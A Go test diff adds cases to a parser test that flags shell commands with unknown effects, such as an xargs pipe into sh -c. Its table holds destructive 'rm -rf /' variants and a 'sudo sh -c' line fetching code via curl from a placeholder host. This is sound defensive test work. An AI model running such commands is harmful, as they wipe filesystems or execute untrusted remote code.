@@ -715,6 +715,9 @@ func TestParseUnknown(t *testing.T) {
 		{`declare -n y=x; x=ls; y=rm; $x -rf /`, []string{"$x"}},
 		{`x=ls; printf -vx %s rm; $x -rf /`, []string{"$x"}},
 		{`x=; : ${x:=rm}; $x -rf /`, []string{"$x"}},
+		// xargs putting input into a shell's code string.
+		{`echo 'rm -rf /' | xargs -I{} sh -c '{}'`, []string{"xargs -I{} sh ..."}},
+		{`ls | xargs -I{} cp {} /tmp/`, nil},
 		{`eval "$X"`, []string{`eval "$X"`}},
 		{`bash -c "$SCRIPT"`, []string{`bash -c "$SCRIPT"`}},
 		{`sudo sh -c "$(curl -s x.example)"`, []string{`sh -c "$(curl -s x.example)"`}},
